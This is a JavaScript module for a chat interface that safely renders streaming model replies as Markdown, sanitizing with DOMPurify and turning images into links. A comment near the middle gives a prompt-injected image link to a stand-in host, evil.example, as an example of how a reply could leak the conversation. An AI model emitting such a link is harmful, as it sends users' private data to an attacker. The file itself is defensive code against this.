/*
 * Markdown to safe DOM: marked parses, highlight.js colours code while marked renders it, and DOMPurify sanitizes
 * the whole result into a DocumentFragment, which is inserted as nodes. No HTML string of model or user text ever
 * reaches innerHTML. marked, DOMPurify and hljs are the WebJars' classic scripts, loaded before this module.
 */

const { marked, DOMPurify, hljs } = window;

const PURIFY = {
  RETURN_DOM_FRAGMENT: true,
  USE_PROFILES: { html: true },
  FORBID_TAGS: ['style', 'form', 'dialog', 'audio', 'video', 'source', 'picture', 'track'],
  FORBID_ATTR: ['style', 'srcset', 'background', 'poster'],
};

/** Highlighted code by language and text: a growing reply re-renders its last block on every frame. */
const highlightCache = new Map();
const HIGHLIGHT_CACHE_SIZE = 64;

let configured = false;

function escapeHtml(text) {
  return text.replace(/[&<>"']/g, (c) => ({
    '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;',
  })[c]);
}

function highlight(code, language) {
  const key = language + '\n' + code;
  let html = highlightCache.get(key);
  if (html === undefined) {
    html = hljs.highlight(code, { language, ignoreIllegals: true }).value;
    if (highlightCache.size >= HIGHLIGHT_CACHE_SIZE) {
      highlightCache.delete(highlightCache.keys().next().value);
    }
    highlightCache.set(key, html);
  }
  return html;
}

function configure() {
  if (configured) {
    return;
  }
  configured = true;
  marked.use({
    gfm: true,
    renderer: {
      code({ text, lang }) {
        const language = ((lang || '').match(/^[\w#+.-]+/) || [''])[0].toLowerCase();
        const known = language !== '' && hljs.getLanguage(language) !== undefined;
        const body = known ? highlight(text, language) : escapeHtml(text);
        const cls = known ? `hljs language-${language}` : 'hljs';
        return `<pre><code class="${cls}" data-lang="${escapeHtml(language)}">${body}</code></pre>\n`;
      },
    },
  });
  DOMPurify.addHook('afterSanitizeAttributes', (node) => {
    if (node.tagName === 'A' && node.hasAttribute('href')) {
      node.setAttribute('target', '_blank');
      node.setAttribute('rel', 'noopener noreferrer nofollow');
    }
    // nothing in a reply loads by itself: this runs in DOMPurify's inert document, before the nodes are
    // imported into the page (where an <img src> would start loading at once, attached or not)
    if (node.hasAttribute('src')) {
      if (node.tagName === 'IMG') {
        node.setAttribute('data-src', node.getAttribute('src'));
      }
      node.removeAttribute('src');
    }
  });
}

/**
 * Finishes a sanitized fragment: images become links (an image in a reply would be fetched as soon as it is shown,
 * so a prompt-injected `![](https://evil.example/?q=secret)` could leak the conversation), code blocks get a
 * language label and a copy button, tables scroll sideways on their own.
 */
function decorate(fragment) {
  for (const img of fragment.querySelectorAll('img')) {
    const src = img.dataset.src;
    const label = '[image' + (img.alt ? ': ' + img.alt : '') + ']';
    if (src) {
      const a = document.createElement('a');
      a.href = src;
      a.target = '_blank';
      a.rel = 'noopener noreferrer nofollow';
      a.textContent = label;
      img.replaceWith(a);
    } else {
      img.replaceWith(document.createTextNode(label));
    }
  }
  for (const pre of fragment.querySelectorAll('pre')) {
    const code = pre.querySelector('code');
    if (code) {
      const block = codeBlock(code);
      pre.replaceWith(block);
      pre.tabIndex = 0;
      block.append(pre);
    }
  }
  for (const table of fragment.querySelectorAll('table')) {
    const wrap = document.createElement('div');
    wrap.className = 'table-wrap';
    table.replaceWith(wrap);
    wrap.append(table);
  }
  return fragment;
}

/** The frame of a code block: its language and a copy button; the `pre` goes in after. */
function codeBlock(code) {
  const block = document.createElement('div');
  block.className = 'code-block';
  const bar = document.createElement('div');
  bar.className = 'code-bar';
  const lang = document.createElement('span');
  lang.className = 'code-lang';
  lang.textContent = code.dataset.lang || 'text';
  const copy = document.createElement('button');
  copy.type = 'button';
  copy.className = 'copy-code';
  copy.dataset.action = 'copy-code';
  copy.setAttribute('aria-label', 'Copy code');
  copy.textContent = 'Copy';
  bar.append(lang, copy);
  block.append(bar);
  return block;
}

/**
 * A growing markdown text shown in an element, re-rendered at most once per animation frame however fast tokens
 * come. Only the blocks that changed are replaced: the text is split into top-level blocks (marked's lexer), and
 * the leading blocks whose source is unchanged keep their nodes, so finished code blocks, selections and copy
 * buttons stay put while the last paragraph grows.
 */
export class MarkdownView {
  constructor(element, onRendered) {
    this.element = element;
    this.onRendered = onRendered || (() => {});
    this.text = '';
    this.blocks = [];   // {raw, node}
    this.frame = 0;
  }

  /** Shows `text` on the next frame. */
  update(text) {
    this.text = text;
    if (!this.frame) {
      this.frame = requestAnimationFrame(() => {
        this.frame = 0;
        this.render();
      });
    }
  }

  /** Shows the current text now (a finished reply, a page restored from storage, a hidden tab). */
  flush() {
    if (this.frame) {
      cancelAnimationFrame(this.frame);
      this.frame = 0;
    }
    this.render();
  }

  /** Forgets the text and removes what was shown. */
  clear() {
    if (this.frame) {
      cancelAnimationFrame(this.frame);
      this.frame = 0;
    }
    this.blocks.forEach((b) => b.node.remove());
    this.blocks = [];
    this.text = '';
  }

  render() {
    configure();
    const tokens = marked.lexer(this.text);
    let same = 0;
    while (same < tokens.length && same < this.blocks.length && tokens[same].raw === this.blocks[same].raw) {
      same++;
    }
    for (const stale of this.blocks.splice(same)) {
      stale.node.remove();
    }
    for (let i = same; i < tokens.length; i++) {
      const node = document.createElement('div');
      node.className = 'md-block';
      try {
        node.append(decorate(DOMPurify.sanitize(marked.parser([tokens[i]]), PURIFY)));
      } catch (e) {
        // never lose text to a rendering bug: show this block as it came
        console.error('Markdown rendering failed; showing plain text.', e);
        node.replaceChildren(document.createTextNode(tokens[i].raw));
      }
      this.element.append(node);
      this.blocks.push({ raw: tokens[i].raw, node });
    }
    this.onRendered();
  }
}
